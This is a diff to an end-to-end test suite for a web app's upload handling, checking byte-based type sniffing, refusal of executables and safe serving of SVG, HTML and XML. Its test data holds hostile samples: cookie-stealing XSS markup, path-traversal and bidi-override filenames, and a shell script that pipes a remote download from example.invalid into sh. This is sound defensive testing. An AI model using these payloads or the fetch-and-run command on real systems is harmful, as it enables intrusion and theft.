@@ -8,7 +8,7 @@ import { registerUser, TestUser } from './support/factories';
 import { ack, connect, eventually, record } from './support/sockets';
 import { withClient } from './support/test-database';
 import { API, startTestApp, TestApp } from './support/test-app';
-import { binary, png, streamUpload, uploadFile, uploadOk } from './support/uploads';
+import { binary, EXECUTABLES, MP3_FRAME_HEADER, mp3, noise, png, streamUpload, uploadFile, uploadOk, wav, withBom } from './support/uploads';
 
 const MAX_BYTES = 256 * 1024;
 
@@ -71,18 +71,18 @@ describe('Uploads and attachments (e2e)', () => {
 
     it('takes the type from the bytes, not the name, and serves non-images as attachments', async () => {
       const res = await uploadFile(t.http, alice, Buffer.from('minutes of the meeting\n'), 'notes.png').expect(201);
-      expect(res.body).toMatchObject({ content_type: 'text/plain', width: null, height: null, thumbnail_url: null });
+      expect(res.body).toMatchObject({ name: 'notes.txt', content_type: 'text/plain', width: null, height: null, thumbnail_url: null });
       const content = await t.http.get(res.body.url).set(alice.auth).expect(200);
       expect(content.headers['content-type']).toBe('text/plain; charset=utf-8');
-      expect(content.headers['content-disposition']).toBe('attachment; filename="notes.png"');
+      expect(content.headers['content-disposition']).toBe('attachment; filename="notes.txt"');
       await t.http.get(`${API}/uploads/${res.body.id}/thumbnail`).set(alice.auth).expect(404);
     });
 
-    it('refuses a renamed .exe by sniffing its bytes (415), storing nothing', async () => {
+    it('refuses a renamed .exe by sniffing its bytes (415 executable_not_allowed), storing nothing', async () => {
       const before = await stored();
       const exe = Buffer.concat([Buffer.from('MZ'), Buffer.alloc(510, 0x90)]);
       const res = await uploadFile(t.http, alice, exe, 'slides.pdf').expect(415);
-      expect(res.body).toEqual({ detail: 'Files of type application/x-msdownload are not accepted.', code: 'unsupported_media_type' });
+      expect(res.body).toEqual({ detail: 'Executable files are not accepted.', code: 'executable_not_allowed' });
       expect(await stored()).toEqual(before);
       expect(await filesUnder(join(dataDir, 'uploads-tmp'))).toEqual([]);
     });
@@ -90,12 +90,12 @@ describe('Uploads and attachments (e2e)', () => {
     it('never serves SVG or HTML inline: text, an attachment, nosniff and a sandboxing CSP', async () => {
       const svg = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><script>alert(1)</script></svg>');
       const html = Buffer.from('<!doctype html><html><body><script>alert(1)</script></body></html>');
-      for (const [body, name] of [[svg, 'logo.svg'], [html, 'page.html']] as const) {
-        const up = await uploadFile(t.http, alice, body, name).expect(201);
+      for (const [body, name, extension] of [[svg, 'logo', 'svg'], [html, 'page', 'html']] as const) {
+        const up = await uploadFile(t.http, alice, body, `${name}.${extension}`).expect(201);
         expect(up.body.content_type).not.toMatch(/svg|html/);
         const res = await t.http.get(up.body.url).set(alice.auth).expect(200);
         expect(res.headers['content-type']).not.toMatch(/svg|html/);
-        expect(res.headers['content-disposition']).toBe(`attachment; filename="${name}"`);
+        expect(res.headers['content-disposition']).toBe(`attachment; filename="${name}.txt"`);
         expect(res.headers['x-content-type-options']).toBe('nosniff');
         expect(res.headers['content-security-policy']).toMatch(/(^|; )sandbox(;|$)/);
       }
@@ -105,7 +105,7 @@ describe('Uploads and attachments (e2e)', () => {
       const res = await uploadFile(t.http, alice, Buffer.from('x'), '..\\..\\evil<name>?.txt').expect(201);
       expect(res.body.name).toBe('evil_name__.txt');
       const dotted = await uploadFile(t.http, alice, Buffer.from('x'), '...').expect(201);
-      expect(dotted.body.name).toBe('file');
+      expect(dotted.body.name).toBe('file.txt');
       // Control and bidi-override characters arrive percent-encoded (RFC 5987); they are dropped.
       const raw = Buffer.from(
         `--b\r\nContent-Disposition: form-data; name="file"; filename*=UTF-8''a%07b%E2%80%AEtxt.exe%00.txt\r\n\r\nhello\r\n--b--\r\n`,
@@ -160,6 +160,111 @@ describe('Uploads and attachments (e2e)', () => {
       expect(await uploadRows()).toEqual(rowsBefore);
       expect(await stored()).toEqual(filesBefore);
       await eventually(async () => expect(await filesUnder(join(dataDir, 'uploads-tmp'))).toEqual([]));
+    });
+  });
+
+  describe('the type is the file’s real type', () => {
+    const refused = async (body: Buffer, name: string) => {
+      const [rows, files] = [await uploadRows(), await stored()];
+      const res = await uploadFile(t.http, alice, body, name);
+      expect({ name, status: res.status }).toEqual({ name, status: 415 });
+      expect(await uploadRows()).toEqual(rows);
+      expect(await stored()).toEqual(files);
+      expect(await filesUnder(join(dataDir, 'uploads-tmp'))).toEqual([]);
+      return res.body as { detail: string; code: string };
+    };
+
+    it('refuses an MPEG frame header followed by an executable, an ELF binary, random bytes or an HTML page', async () => {
+      const html = Buffer.from(`<!doctype html><html><body>${'<script>alert(document.cookie)</script>'.repeat(100)}</body></html>`);
+      const files = [
+        [EXECUTABLES.pe, 'setup.exe'],
+        [EXECUTABLES.elf, 'app'],
+        [noise(6000), 'noise.bin'],
+        [html, 'page.html'],
+      ] as const;
+      for (const [rest, name] of files) {
+        const body = await refused(Buffer.concat([MP3_FRAME_HEADER, rest]), name);
+        expect(body).toEqual({ detail: 'The file is not valid audio/mpeg.', code: 'unsupported_media_type' });
+      }
+    });
+
+    it('refuses a real MP3 with anything but frames and tags after it, and a WAV cut short', async () => {
+      const body = await refused(Buffer.concat([mp3(20), EXECUTABLES.pe]), 'song.mp3');
+      expect(body.code).toBe('unsupported_media_type');
+      const riffHtml = Buffer.concat([wav(1).subarray(0, 36), Buffer.from('<html><script>alert(1)</script></html>'.repeat(20))]);
+      expect((await refused(riffHtml, 'voice.wav')).code).toBe('unsupported_media_type');
+    });
+
+    it('accepts real audio (MP3 with ID3 tags, WAV) and names the download after the verified type', async () => {
+      const song = mp3(40, { id3: true });
+      const up = await uploadFile(t.http, alice, song, 'song.mp3').expect(201);
+      expect(up.body).toMatchObject({ name: 'song.mp3', content_type: 'audio/mpeg', size: song.length, thumbnail_url: null });
+      const voice = await uploadFile(t.http, alice, wav(1), 'voice note').expect(201);
+      expect(voice.body).toMatchObject({ name: 'voice note.wav', content_type: 'audio/wav' });
+      const res = await t.http.get(voice.body.url).set(alice.auth).buffer(true).parse(binary).expect(200);
+      expect(res.headers['content-disposition']).toBe('attachment; filename="voice note.wav"');
+      expect(Buffer.compare(res.body as Buffer, wav(1))).toBe(0);
+    });
+
+    it('refuses executables whatever they are named or claim to be, with their own code', async () => {
+      const script = Buffer.from('#!/bin/sh\ncurl https://example.invalid/x | sh\n');
+      const files = [
+        [EXECUTABLES.pe, 'slides.pdf'],
+        [EXECUTABLES.elf, 'photo.png'],
+        [EXECUTABLES.machO, 'song.mp3'],
+        [script, 'notes.txt'],
+      ] as const;
+      for (const [body, name] of files) {
+        expect(await refused(body, name)).toEqual({ detail: 'Executable files are not accepted.', code: 'executable_not_allowed' });
+      }
+    });
+
+    it('reads UTF-16 text with a byte-order mark as text in that encoding: HTML in it is a text/plain download named .txt', async () => {
+      const page = '<!doctype html><html><body><script>alert(document.cookie)</script></body></html>';
+      for (const encoding of ['utf-16le', 'utf-16be'] as const) {
+        const body = withBom(page, encoding);
+        const up = await uploadFile(t.http, alice, body, 'page.html').expect(201);
+        expect(up.body).toMatchObject({ name: 'page.txt', content_type: `text/plain; charset=${encoding}` });
+        const res = await t.http.get(up.body.url).set(alice.auth).buffer(true).parse(binary).expect(200);
+        expect(res.headers['content-type']).toBe(`text/plain; charset=${encoding}`);
+        expect(res.headers['content-disposition']).toBe('attachment; filename="page.txt"');
+        expect(Buffer.compare(res.body as Buffer, body)).toBe(0);
+      }
+      // No browser decodes UTF-32 (the WHATWG Encoding Standard has no such decoder): not text, so not accepted.
+      const utf32 = await refused(withBom(page, 'utf-32le'), 'page.html');
+      expect(utf32).toEqual({ detail: 'Files of type application/octet-stream are not accepted.', code: 'unsupported_media_type' });
+    });
+
+    it('stores SVG and XML, with or without an XML declaration, as text/plain downloads named .txt', async () => {
+      const svg = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>';
+      const files = [
+        [`<?xml version="1.0" encoding="UTF-8"?>\n${svg}`, 'logo.svg', 'logo.txt'],
+        [svg, 'icon.svg', 'icon.txt'],
+        ['<?xml version="1.0"?>\n<config><debug>true</debug></config>', 'config.xml', 'config.txt'],
+      ] as const;
+      for (const [text, name, downloadName] of files) {
+        const up = await uploadFile(t.http, alice, Buffer.from(text), name).expect(201);
+        expect(up.body).toMatchObject({ name: downloadName, content_type: 'text/plain' });
+        const res = await t.http.get(up.body.url).set(alice.auth).expect(200);
+        expect(res.headers['content-type']).toBe('text/plain; charset=utf-8');
+        expect(res.headers['content-disposition']).toBe(`attachment; filename="${downloadName}"`);
+      }
+    });
+
+    it('gives every download a name whose extension matches the verified type, keeping the base name', async () => {
+      const cases = [
+        [image, 'setup.exe', 'setup.png', 'inline'],
+        [image, 'photo', 'photo.png', 'inline'],
+        [Buffer.from('a,b\n1,2\n'), 'data.csv', 'data.csv', 'attachment'],
+        [Buffer.from('echo hi'), 'run.bat', 'run.txt', 'attachment'],
+        [Buffer.from('x'), '...', 'file.txt', 'attachment'],
+      ] as const;
+      for (const [body, name, downloadName, disposition] of cases) {
+        const up = await uploadFile(t.http, alice, body, name).expect(201);
+        expect({ name, stored: up.body.name }).toEqual({ name, stored: downloadName });
+        const res = await t.http.get(up.body.url).set(alice.auth).buffer(true).parse(binary).expect(200);
+        expect(res.headers['content-disposition']).toBe(`${disposition}; filename="${downloadName}"`);
+      }
     });
   });
 
